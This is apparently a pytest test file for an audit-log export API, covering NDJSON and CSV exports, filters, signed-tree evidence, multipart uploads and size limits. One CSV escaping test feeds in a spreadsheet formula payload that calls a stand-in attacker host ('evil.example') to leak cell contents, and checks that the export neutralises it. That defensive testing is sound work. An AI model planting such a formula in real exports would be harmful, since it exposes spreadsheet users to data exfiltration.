"""The content of exports: inline, and as files, which do not depend on how work is divided into slices and uploads."""

import gzip
import json
import tracemalloc
import zlib
from collections.abc import Iterator
from hashlib import sha256
from types import SimpleNamespace
from typing import Any

import pytest

from chalicelib.features.audit.exports.logic import async_export, inline_export, omitted_runs
from chalicelib.features.audit.exports.logic.verify import InvalidInput
from chalicelib.features.audit.log.logic import entry_queries as logs
from chalicelib.features.audit.log.logic.entry_verification import StoredEntry
from chalicelib.kernel.audit_log import ledger
from chalicelib.kernel.execution import envelope
from chalicelib.kernel.storage import files
from chalicelib.kernel.work import jobs
from tests.harness import exports
from tests.harness.api import ApiClient, ApiResponse, Json
from tests.harness.audit_logs import list_entries
from tests.harness.cached_scenarios import extended_scenario
from tests.harness.exports import (
    append_entries,
    download_file,
    get_inline_export,
    parse_csv,
    read_ndjson_entries,
    verify_export_file,
)
from tests.harness.invitations import create_invitation
from tests.harness.organizations import CreatedOrganization, add_organization_member, create_organization
from tests.harness.stored_logs import StoredLog
from tests.http.audit.conftest import build_filter_queries


def sequenced_entries(log: StoredLog, **query: object) -> list[Json]:
    """Return the entries with a sequence, in its order, except those about exports."""
    entries = [entry for entry in log.entries(**query) if entry["sequence"] and "export" not in entry["type"]]
    return sorted(entries, key=lambda entry: entry["sequence"])


def read_text(record):
    return gzip.decompress(download_file(record)).decode()


class TestExportFile:
    def test_the_file_holds_all_sequenced_entries(self, mixed_log):
        record = mixed_log.export()
        *before, requested = read_ndjson_entries(record)
        assert before == sequenced_entries(mixed_log)
        assert requested["type"] == "organization.audit_export.requested"
        size = len(before) + 1
        assert (record["entryCount"], record["checkpoint"].split("\n")[1]) == (size, str(size))
        file = download_file(record)
        assert (sha256(file).hexdigest(), len(file)) == (record["sha256"], record["sizeBytes"])

    def test_a_csv_file_equals_the_inline_export(self, mixed_log):
        record = mixed_log.export(format="csv")
        text = read_text(record)
        assert mixed_log.get("/export", format="csv").text.startswith(text)
        assert len(parse_csv(text)) == record["entryCount"]
        assert record["evidence"] is None

    def test_a_file_without_entries_is_empty(self, mixed_log):
        record = mixed_log.export(filters={"actorId": "nobody"})
        assert (record["entryCount"], read_text(record)) == (0, "")
        assert parse_csv(read_text(mixed_log.export(format="csv", filters={"actorId": "nobody"}))) == []

    def test_an_altered_entry_is_exported_and_fails_verification(self, mixed_log):
        mixed_log.alter(2, body=mixed_log.entry(2)["body"].replace(b"Grace", b"Merlin"))
        record = mixed_log.export()
        assert "Merlin" in str(read_ndjson_entries(record)[1])
        with pytest.raises(InvalidInput, match="The entry with sequence 2 was altered"):
            verify_export_file(record)


class TestFilters:
    def test_the_file_equals_the_list_with_the_same_filters_and_proves_the_omitted_entries(
        self, mixed_log, grace, mary
    ):
        queries = build_filter_queries(sequenced_entries(mixed_log), "organization.updated", grace.id, mixed_log.id)
        for filters in ({}, {"type": "page.*"}, {"from": "2000-01-01T00:00:00Z"}, {"targetId": mary.id}, *queries[::3]):
            record = mixed_log.export(filters=filters)
            entries = read_ndjson_entries(record)
            found = [entry for entry in entries if "export" not in entry["type"]]
            assert found == sequenced_entries(mixed_log, **filters), filters
            count, size = record["entryCount"], record["checkpoint"].split("\n")[1]
            assert (count, bool(record["evidence"])) == (len(entries), str(count) != size), filters
            assert f"{count} of {size} entries are proven to be in the signed tree" in verify_export_file(record)

    def test_evidence_over_the_limit_is_omitted(self, mixed_log, monkeypatch):
        assert omitted_runs.MAX_EVIDENCE_HASHES == 2_000
        filters = {"to": sequenced_entries(mixed_log)[4]["occurredAt"], "actorId": mixed_log.organization.owner.id}
        count = sum(len(run["hashes"]) for run in mixed_log.export(filters=filters)["evidence"])
        monkeypatch.setattr(omitted_runs, "MAX_EVIDENCE_HASHES", count + 8)  # The log has grown meanwhile.
        assert mixed_log.export(filters=filters)["evidence"]
        monkeypatch.setattr(omitted_runs, "MAX_EVIDENCE_HASHES", count - 1)
        record = mixed_log.export(filters=filters)
        assert record["evidence"] is None
        assert read_ndjson_entries(record)

    def test_the_log_entry_holds_the_hash_of_long_evidence(self, mixed_log):
        append_entries(mixed_log.id, 85)
        for sequence in range(20, 100, 2):
            mixed_log.alter(sequence, type="page.created")
        record = mixed_log.export(filters={"type": "page.created"})
        assert len(record["evidence"]) > 30
        (completion,) = mixed_log.entries(type="organization.audit_export.completed", targetId=record["id"])
        assert set(completion["data"]["evidence"]) == {"sha256", "size"}


@pytest.fixture
def long_log(new_log, monkeypatch):
    """A log with 24 entries whose bodies are stored in items of their own, read with few bodies at a time."""
    monkeypatch.setattr(logs, "_MAX_LONG_BODIES", 5)
    extended_scenario("long log", lambda: append_entries(new_log.id, 24, 9_000))
    return new_log


def decompressed_members(record):
    """Return the text of each gzip member of a file, one for each part."""
    compressed, texts = download_file(record), list[bytes]()
    while compressed:
        member = zlib.decompressobj(wbits=31)
        texts.append(member.decompress(compressed))
        compressed = member.unused_data
    return texts


class TestPartsAndSlices:
    def test_no_part_is_smaller_than_s3_allows(self):
        assert files.MIN_PART_BYTES == 5 * 1024 * 1024

    def test_a_long_file_is_uploaded_in_parts(self, long_log, monkeypatch):
        exports.set_min_part_bytes(monkeypatch, min_bytes=40_000)
        part_sizes: list[int] = []
        upload_part = files.upload_part

        def record_size(*args: Any) -> None:
            part_sizes.append(len(args[-1]))
            upload_part(*args)

        monkeypatch.setattr(files, "upload_part", record_size)
        record = long_log.export()
        assert len(part_sizes) > 2
        assert all(size >= 40_000 for size in part_sizes[:-1])
        assert sum(part_sizes) == record["sizeBytes"]
        assert len(decompressed_members(record)) == len(part_sizes)
        assert len(read_ndjson_entries(record)) == 29
        assert "29 of 29 entries" in verify_export_file(record)

    @pytest.mark.parametrize("export_format", ["ndjson", "csv"])
    def test_the_content_does_not_depend_on_slices_and_parts(self, long_log, monkeypatch, export_format):
        filters = {"type": "organization.*", "to": "2999-01-01T00:00:00Z"}
        complete_text = read_text(long_log.export(format=export_format, filters=filters))
        limits = ((600, -1, 10**9), (-1, 60, 10**9), (-1, 60, 40_000), (600, -1, 1))
        for slice_seconds, checkpoint_seconds, min_part_bytes in limits:
            monkeypatch.setattr(jobs, "_SLICE_SECONDS", slice_seconds)
            monkeypatch.setattr(async_export, "CHECKPOINT_INTERVAL_SECONDS", checkpoint_seconds)
            exports.set_min_part_bytes(monkeypatch, min_part_bytes)
            record = long_log.export(format=export_format, filters=filters)
            assert read_text(record).startswith(complete_text)
            line_count = sum(text.count(b"\n") for text in decompressed_members(record))
            assert record["entryCount"] == line_count - (export_format == "csv")

    def test_evidence_continues_across_slices(self, long_log, monkeypatch):
        for sequence in (6, 7, 14, 21):
            long_log.alter(sequence, type="page.created")
        filters = {"type": "page.*"}
        evidence = long_log.export(filters=filters)["evidence"]
        assert [(run["from"], run["to"]) for run in evidence] == [(1, 5), (8, 13), (15, 20), (22, 29)]
        monkeypatch.setattr(jobs, "_SLICE_SECONDS", -1)
        in_slices = long_log.export(filters=filters)
        assert in_slices["evidence"][:3] == evidence[:3]
        assert "4 of" in verify_export_file(in_slices)

    def test_each_slice_reports_its_progress(self, api, long_log, workers, monkeypatch):
        reports: list[Json] = []
        release = jobs.release

        def observe_release(*args: Any, **progress: Any) -> Any:
            released = release(*args, **progress)
            reports.append(export.get(api))
            return released

        monkeypatch.setattr(jobs, "_SLICE_SECONDS", -1)
        monkeypatch.setattr(jobs, "release", observe_release)
        export = long_log.create_export()
        workers.deliver()
        states = {(report["status"], report["downloadUrl"], bool(report["checkpoint"])) for report in reports}
        assert states == {("running", None, True)}
        counts = [report["entryCount"] for report in reports]
        assert (counts, len(counts) > 3) == (sorted({*counts}), True)
        assert export.get(api)["entryCount"] == 29

    def test_a_worker_holds_only_a_part_of_the_file_in_memory(self, api, short_log, workers, monkeypatch, tmp_path):
        entry_count, min_part_bytes = 1_000, 1024 * 1024
        append_entries(short_log.id, 25, 24_000)
        (batch,) = logs.iter_sequenced_entry_chunks(short_log.id, 1, 26)

        def repeat_batch(log_id: str, _after: int, _until: int, **_: bool) -> Iterator[list[StoredEntry]]:
            for first in range(1, entry_count, len(batch)):
                positions = (
                    ledger.entry_position_attributes(log_id, first + n, entry_count) for n in range(len(batch))
                )
                yield [StoredEntry({**e.item, **changed}, e.body) for e, changed in zip(batch, positions, strict=True)]

        export = short_log.create_export()
        exports.set_min_part_bytes(monkeypatch, min_part_bytes)
        long_log_queries = SimpleNamespace(**{**vars(logs), "iter_sequenced_entry_chunks": repeat_batch})
        monkeypatch.setattr(async_export, "logs", long_log_queries)
        # The stored file is in a folder, not in memory.
        monkeypatch.setattr(files, "upload_part", lambda *args: (tmp_path / f"{args[3]:05d}").write_bytes(args[4]))
        monkeypatch.setattr(files, "complete_upload", lambda *_: None)
        monkeypatch.setattr(files, "iter_file_chunks", lambda *_: (p.read_bytes() for p in sorted(tmp_path.iterdir())))
        tracemalloc.start()
        try:
            workers.deliver()
            _, peak = tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()
        record = export.get(api)
        assert record["entryCount"] == entry_count
        assert len(list(tmp_path.iterdir())) > 5
        assert record["sizeBytes"] > 10 * min_part_bytes
        assert peak < record["sizeBytes"] / 2


COLUMNS = (
    '"sequence","id","occurredAt","type","actorType","actorId","actorName","targetType","targetId","targetName",'
    '"operationId","requestId","ipAddress","userAgent","changes","data","leafHash","treeSize","erased",'
    '"version","receivedAt","actorAsserted","reportedByType","reportedById","reportedByName","targets"'
)


def exported_entries(api: ApiClient, organization: CreatedOrganization, **query: Any) -> list[Json]:
    response = get_inline_export(api, organization, **query).expect(200)
    assert response.text == "" or response.text.endswith("\n")
    return [json.loads(line) for line in response.text.splitlines()]


class TestInlineExport:
    def test_the_file_has_a_line_for_each_entry_whatever_the_limit_of_lists(self, api, log, clock):
        timestamp = clock.freeze()
        response = log.get("/export", limit=1)
        assert response.headers["Content-Type"] == "application/x-ndjson"
        name = f"{log.organization.record['slug']}-audit-log-{timestamp[:10]}.ndjson"
        assert response.headers["Content-Disposition"] == f'attachment; filename="{name}"'
        assert response.headers["Cache-Control"] == "no-store"
        assert [json.loads(line) for line in response.text.splitlines()] == log.entries()[::-1]

    def test_pending_entries_come_last_and_change_the_entity_tag(self, api, log):
        etag = log.get("/export").etag
        log.rename("First")
        log.rename("Second")
        listed = exported_entries(api, log.organization)
        assert [entry["sequence"] for entry in listed] == [*range(1, 11), None, None]
        assert [entry["data"]["name"] for entry in listed[-2:]] == ["First", "Second"]
        assert log.get("/export").etag != etag

    def test_entries_are_in_the_order_of_their_sequence_despite_clock_skew(self, api, ada, clock, workers):
        organization, _ = create_organization(api, ada), create_organization(api, ada)
        for shift, address in ((60, "first@example.org"), (-90, "second@example.org")):
            clock.shift(seconds=shift)
            create_invitation(api, organization, address)
            workers.deliver()
        assert [entry["sequence"] for entry in list_entries(api, organization)] == [2, 1, 3]
        assert [entry["sequence"] for entry in exported_entries(api, organization)] == [1, 2, 3]

    def test_long_entries_are_complete(self, api, ada, workers):
        organization = create_organization(api, ada, companyAddress="é" * 3000)
        assert exported_entries(api, organization) == list_entries(api, organization)
        workers.deliver()
        assert exported_entries(api, organization) == list_entries(api, organization)

    def test_unreadable_entries_are_omitted(self, log):
        log.alter(3, body=b"no json")
        log.alter(5, body=log.entry(5)["body"][:-1] + b"\n}")
        log.remove_attributes(7, "body")
        for export_format in ("ndjson", "csv"):
            lines = log.get("/export", format=export_format).text.splitlines()
            assert len(lines) == 7 + (export_format == "csv")


class TestInlineFilters:
    def test_the_filters_match_those_of_the_list(self, api, mixed_log, grace):
        queries = build_filter_queries(mixed_log.entries(), "organization.updated", grace.id, mixed_log.id)
        for query in (*queries, {"actorId": grace.id.upper()}, {"actorId": "nobody"}):
            assert exported_entries(api, mixed_log.organization, **query) == mixed_log.entries(**query)[::-1], query

    @pytest.mark.parametrize(
        ("query", "errors"),
        [
            ({"type": "*.member"}, {"query/type": "malformed"}),
            ({"from": "yesterday"}, {"query/from": "malformed"}),
            ({"to": "2026-11-20"}, {"query/to": "malformed"}),
            ({"from": "2026-11-20T09:30:00Z", "to": "2026-11-19T09:30:00Z"}, {"query/from": "out_of_range"}),
            *(({"format": name}, {"query/format": "not_one_of"}) for name in ("xml", "", "NDJSON", "ndjson.gz")),
        ],
    )
    def test_an_invalid_filter_or_format_is_rejected(self, new_log, query, errors):
        assert new_log.get("/export", **query).validation_errors == errors


class TestCsv:
    def test_a_csv_file_has_a_row_for_each_entry(self, api, log):
        response = log.get("/export", format="csv")
        assert response.headers["Content-Type"] == "text/csv; charset=utf-8; header=present"
        assert response.headers["Content-Disposition"].endswith('.csv"')
        assert response.text.splitlines()[0] == COLUMNS
        entries, rows = exported_entries(api, log.organization), parse_csv(response.text)
        assert [(row["id"], row["sequence"]) for row in rows] == [(e["id"], str(e["sequence"])) for e in entries]
        assert [json.loads(row["data"]) for row in rows] == [entry["data"] for entry in entries]
        assert log.get("/export", format="csv", actorId="nobody").text == f"{COLUMNS}\r\n"

    def test_formulas_are_escaped(self, api, new_log):
        texts = ["=1+1", "+1", "-1", "@A1", "\uff1d1", "\uff0b1", "\uff0d1", "\uff20A1", '  "=1+1', "\u200b=1"]
        for text in texts:
            new_log.rename(text)
        agent = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
        new_log.rename("a;=1+1", headers={"User-Agent": agent})
        rows = parse_csv(new_log.get("/export", format="csv", type="organization.updated").text)
        assert [row["targetName"] for row in rows] == [*(f"'{text.strip()}" for text in texts), "a;'=1+1"]
        assert rows[-1]["userAgent"] == f"'{agent}"


def assert_too_large(api: ApiClient, organization: CreatedOrganization, reason: str, **query: Any) -> ApiResponse:
    rejected = get_inline_export(api, organization, **query)
    advice = f"POST {organization.path}/audit-log/export-async"
    return rejected.expect_problem("409 export_too_large", reason, advice)


class TestTooLargeInlineExports:
    def test_the_limits_are_those_of_the_contract(self):
        assert (inline_export.MAX_ENTRIES, inline_export.MAX_BYTES) == (10_000, 5_000_000)

    def test_too_many_entries_are_rejected(self, api, log, monkeypatch):
        monkeypatch.setattr(inline_export, "MAX_ENTRIES", 10)
        assert len(exported_entries(api, log.organization)) == 10
        log.rename("One more")
        assert_too_large(api, log.organization, "more than 10 entries")
        assert len(exported_entries(api, log.organization, type="organization.updated")) == 10

    @pytest.mark.parametrize("char_count", [100, 6_000])
    def test_too_many_bytes_are_rejected_without_a_read_of_further_bodies(self, api, ada, monkeypatch, char_count):
        organization = create_organization(api, ada)
        append_entries(organization.id, 30, char_count)
        size = len(get_inline_export(api, organization).text.encode())
        monkeypatch.setattr(inline_export, "MAX_BYTES", size)
        assert len(exported_entries(api, organization)) == 31
        for max_bytes in (size - 1, size // 4):
            monkeypatch.setattr(inline_export, "MAX_BYTES", max_bytes)
            rejected = assert_too_large(api, organization, f"more than {max_bytes:,} bytes")
        if char_count == 6_000:  # Each of these entries has a separate body.
            assert rejected.calls.call_names == ["dynamodb:BatchGetItem", "dynamodb:Query"]

    def test_escaped_characters_count_with_their_encoded_size(self, api, ada, monkeypatch):
        organization = create_organization(api, ada, name="🚂" * 200, slug="trains")
        text = get_inline_export(api, organization).text
        monkeypatch.setattr(envelope, "MAX_ENVELOPE_BYTES", len(json.dumps(text)) + 10_000)
        assert get_inline_export(api, organization).text == text
        monkeypatch.setattr(envelope, "MAX_ENVELOPE_BYTES", len(json.dumps(text)))
        assert_too_large(api, organization, "than a response can be")

    def test_a_filter_that_matches_few_entries_has_a_query_limit(self, api, ada, grace, monkeypatch):
        organization = create_organization(api, ada)
        add_organization_member(organization, grace, "admin")
        append_entries(organization.id, 25, 6_000)
        monkeypatch.setattr(inline_export, "MAX_ENTRIES", 9)  # This is also the page size of the queries.
        monkeypatch.setattr(logs, "_FILTERED_PAGE_SIZE", 1)
        monkeypatch.setattr(inline_export, "MAX_QUERIES", 3)
        assert len(exported_entries(api, organization, type="organization.invitation.*")) == 1
        monkeypatch.setattr(inline_export, "MAX_QUERIES", 2)
        assert_too_large(api, organization, "too long to be searched", type="organization.invitation.*")
        assert len(exported_entries(api, organization, type="organization.invitation.accepted")) == 1
